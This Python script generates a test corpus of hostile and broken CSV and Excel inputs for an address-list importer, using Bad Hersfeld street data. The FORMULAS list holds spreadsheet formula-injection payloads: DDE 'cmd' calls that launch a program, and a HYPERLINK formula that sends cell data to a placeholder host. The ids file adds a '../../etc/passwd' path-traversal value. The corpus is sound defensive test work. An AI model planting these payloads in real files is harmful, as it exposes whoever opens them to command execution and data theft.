"""Write the hostile and broken inputs of this folder (run once; the files are committed).

    python tests/data/hostile/make_corpus.py

Every file is small, deterministic and built from a handful of real Bad Hersfeld
addresses (public OSM data, no real person). What each file tries is in CORPUS.md.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
HEADER = ["Kundennummer", "Name", "Straße", "Hausnummer", "PLZ", "Ort", "Kontaktabbruch seit",
          "Zeitfenster", "Besuchsdauer", "Notiz"]
#: real address points of the Bad Hersfeld extract
ADDRESSES = [
    ("Ahornweg", "1"), ("Ahornweg", "11"), ("Am Markt", "16"), ("Breitenstraße", "3"),
    ("Klausstraße", "12"), ("Dudenstraße", "20"), ("Benno-Schilde-Platz", "1"),
    ("Weinstraße", "5"), ("Neumarkt", "10"), ("Linggplatz", "4"),
]
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Klick")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",
    "=1+1",
    "+49 6621 0000",
]


def rows(n: int = 10, prefix: str = "H") -> list[list[str]]:
    out = []
    for i in range(n):
        street, hn = ADDRESSES[i % len(ADDRESSES)]
        out.append([f"{prefix}-{i:03d}", f"Testname {i}", street, hn, "36251", "Bad Hersfeld",
                    "01.03.2025", "", "", ""])
    return out


def write_csv(name: str, header: list[str], body: list[list[str]], *, encoding: str = "utf-8",
              delimiter: str = ";") -> None:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(body)
    (HERE / name).write_bytes(buf.getvalue().encode(encoding))


def workbook(name: str, sheets: dict[str, list[list[object]]], active: int = 0) -> None:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, data in sheets.items():
        ws = wb.create_sheet(title)
        for r in data:
            ws.append(r)
    wb.active = active
    wb.save(HERE / name)


def main() -> None:
    # formulas in every field (ids, names, addresses, dates, windows, durations, notes)
    body = rows(2 * len(FORMULAS), "F")
    for i, f in enumerate(FORMULAS):
        r = body[2 * i]  # valid rows: formulas in id, name and note; these are planned
        r[0], r[1], r[9] = f, f, f
        r = body[2 * i + 1]  # formulas in every field: rejected, with reasons quoting them
        r[0] = f"{f}-{i}"
        r[1], r[6], r[7], r[8], r[9] = f, f, f, f, f
        if i % 2:
            r[2] = f  # the street itself
    body += rows(4, "OK")
    write_csv("formulas.csv", HEADER, body)
    # 100,000-character cells in every field
    big = rows(6, "B")
    huge = "Ä" * 100_000
    big[0][0] = "=" + "1" * 100_000
    big[1][2] = "Am Markt " + "9" * 100_000
    big[2][9] = huge
    big[3][7] = "Mo " + "10-12, " * 15_000
    big[4][8] = "9" * 100_000
    big[5][1] = huge
    write_csv("huge-cells.csv", HEADER, big)
    # encodings
    write_csv("utf16.csv", HEADER, rows(5, "U") + [["U-=1", "Jürgen", "Am Markt", "16", "",
              "Bad Hersfeld", "", "", "", "=1+1"]], encoding="utf-16", delimiter="\t")
    write_csv("latin1.csv", HEADER, rows(5, "L") + [["L-ä", "Müller", "Breitenstraße", "3",
              "36251", "Bad Hersfeld", "", "", "", "Grüße"]], encoding="latin-1")
    mixed = io.BytesIO()
    mixed.write(";".join(HEADER).encode("utf-8") + b"\r\n")
    mixed.write("M-1;Jürgen;Breitenstraße;3;36251;Bad Hersfeld;;;;\r\n".encode())
    mixed.write("M-2;Jürgen;Breitenstraße;3;36251;Bad Hersfeld;;;;\r\n".encode("latin-1"))
    mixed.write("M-3;\u20ac;Am Markt;16;36251;Bad Hersfeld;;;;\r\n".encode("cp1252"))
    (HERE / "mixed-encoding.csv").write_bytes(mixed.getvalue())
    # NUL bytes: early (binary) and late (inside a cell)
    (HERE / "nul-early.csv").write_bytes(b"Kundennummer;Adresse\r\nN\x00-1;Am Markt 16\r\n")
    # a binary file with a .csv name (an image, a database): many NUL and control bytes
    (HERE / "binary.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
                                      + b"\x00" * 512)
    late = io.BytesIO()
    late.write(";".join(HEADER).encode() + b"\r\n")
    for r in rows(60, "N"):
        late.write(";".join(r).encode() + b"\r\n")
    late.write(b"N-\x00\x00;x\x00y;Am Markt;16;;Bad Hersfeld;;;;\x00\r\n")
    (HERE / "nul-late.csv").write_bytes(late.getvalue())
    # header only, empty, BOM only, blank lines only
    write_csv("header-only.csv", HEADER, [])
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "bom-only.csv").write_bytes(b"\xef\xbb\xbf")
    (HERE / "blank-lines.csv").write_bytes(b"\r\n;;;\r\n\r\n")
    # no id column, no address column
    write_csv("no-id.csv", ["Name", "Adresse"], [["X", "Am Markt 16"]])
    write_csv("no-address.csv", ["Kundennummer", "Name"], [["K1", "X"]])
    # quotes gone wrong, Excel's sep= line, ragged rows
    (HERE / "broken-quotes.csv").write_bytes(
        b'sep=;\r\nKundennummer;Adresse;Notiz\r\nQ-1;"Am Markt 16;"offen\r\nQ-2;Am Markt 16;"a""b\r\n'
        b"Q-3;Am Markt 16;x;y;z;w\r\n")
    # every row bad
    write_csv("all-rejected.csv", HEADER, [["", "", "", "", "", "", "", "", "", ""],
                                           ["R-1", "", "", "", "", "", "31.02.2025", "", "", ""],
                                           ["R-2", "", "Gibtesnichtweg", "1", "", "", "", "",
                                            "1,5", ""]])
    # ids: duplicates by case, long, control characters, bidi override
    write_csv("ids.csv", HEADER, [
        ["k-100004", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["K-100004", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["X" * 200, "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["\u202eK-1\u202c", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["../../etc/passwd", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["1.234567890123457e+19", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "", ""],
        ["D-1", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "1,5", ""],
        ["D-2", "", "Am Markt", "16", "", "Bad Hersfeld", "", "", "1,5 h", ""],
        ["D-3", "", "c/o Meier, Am Markt", "16", "", "Bad Hersfeld", "", "", "90", ""],
    ])
    # workbooks: broken, zero bytes, renamed CSV, a zip that is no workbook, header only,
    # twenty sheets, ids as floats/booleans/huge numbers/dates
    good = HERE / "_tmp.xlsx"
    workbook("_tmp.xlsx", {"Kunden": [HEADER, *rows(3, "X")]})
    data = good.read_bytes()
    good.unlink()
    (HERE / "broken.xlsx").write_bytes(data[: len(data) // 2])
    (HERE / "zero-byte.xlsx").write_bytes(b"")
    (HERE / "renamed-csv.xlsx").write_bytes((HERE / "formulas.csv").read_bytes())
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    (HERE / "renamed-docx.xlsx").write_bytes(zbuf.getvalue())
    workbook("header-only.xlsx", {"Kunden": [HEADER]})
    sheets: dict[str, list[list[object]]] = {
        f"Blatt {i}": [["Spalte A", "Spalte B"], [i, f"=SUM({i})"]] for i in range(19)}
    sheets["Kunden"] = [HEADER, *rows(5, "S")]
    workbook("twenty-sheets.xlsx", sheets, active=3)
    import datetime as dt

    id_rows: list[list[object]] = [HEADER]
    for i, cid in enumerate([12345.0, 1.5, True, False, 1.2345678901234567e19, 10**20,
                             dt.datetime(2026, 1, 2), -7, "=2+3", None]):
        street, hn = ADDRESSES[i % len(ADDRESSES)]
        id_rows.append([cid, "", street, hn, 36251, "Bad Hersfeld", dt.date(2025, 3, 1),
                        "Di 10-12", 1.5 if i == 1 else 45, "=HYPERLINK(\"x\")"])
    workbook("id-types.xlsx", {"Kunden": id_rows})


if __name__ == "__main__":
    main()
